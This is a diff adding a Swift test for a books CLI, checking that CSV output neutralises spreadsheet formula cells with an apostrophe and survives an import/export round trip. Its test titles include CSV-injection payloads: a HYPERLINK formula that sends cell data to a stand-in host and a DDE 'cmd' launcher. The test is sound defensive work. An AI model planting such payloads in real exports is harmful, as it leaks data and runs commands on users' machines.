@@ -43,6 +43,41 @@ import Testing
         #expect(again.stdout == "Imported \(count) books (\(kind)): 0 added, 0 updated, \(count) unchanged.\n", "\(again)")
     }
 
+    /// CSV injection: a cell a spreadsheet would run (`=`, `+`, `-`, `@`, a tab or a CR
+    /// first) is written behind an apostrophe, in `export` and `list --format csv`; text that
+    /// begins with an apostrophe of its own keeps its bytes through export, import, export.
+    @Test func cellsASpreadsheetWouldRunAreNeutralisedAndTheRoundTripStaysExact() throws {
+        let source = try BooksSandbox()
+        let titles = [
+            "=HYPERLINK(\"http://x.example/?\"&A1,\"x\")", "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)",
+            "'=quoted already", "'Salem's Lot", "''two apostrophes", "Plain",
+        ]
+        for (index, title) in titles.enumerated() {
+            let author = index == 0 ? "=1+1" : "A. Author"
+            // `--title=…`: a value beginning with "-" is otherwise read as an option.
+            let add = try source.run(["add", "--title=\(title)", "--author", author, "--date", "2020-01-0\(index + 1)", "--price", "1"])
+            #expect(add.status == 0, "\(add)")
+        }
+        let first = try Self.export(source, "csv")
+        #expect(first.stdout.contains(",'=1+1,"), "the author is neutralised too: \(first.stdout)")
+        let listed = try source.run(["list", "--format", "csv", "--fields", "title,author"])
+        let rows = Set(listed.stdout.components(separatedBy: "\r\n"))
+        for row in [
+            "\"'=HYPERLINK(\"\"http://x.example/?\"\"&A1,\"\"x\"\")\",'=1+1", "'+cmd|' /C calc'!A0,A. Author",
+            "'-2+3,A. Author", "'@SUM(A1),A. Author", "''=quoted already,A. Author", "'Salem's Lot,A. Author",
+            "'''two apostrophes,A. Author", "Plain,A. Author",
+        ] {
+            #expect(rows.contains(row), "\(row) in \(listed.stdout)")
+        }
+
+        let target = try BooksSandbox()
+        let imported = try target.run(["import", try target.file("books.csv", first.stdoutData)])
+        #expect(imported.status == 0, "\(imported)")
+        #expect(try Self.export(target, "csv").stdoutData == first.stdoutData)
+        let json = try target.run(["list", "--json"]).jsonObjects()
+        #expect(Set(json.compactMap { $0["title"] as? String }) == Set(titles))
+    }
+
     @Test func theCSVHasAHeaderRowEveryFieldAndRFC4180Quoting() throws {
         let run = try Self.export(try Self.enrichedSandbox(), "csv")
         let lines = run.stdout.components(separatedBy: "\r\n")
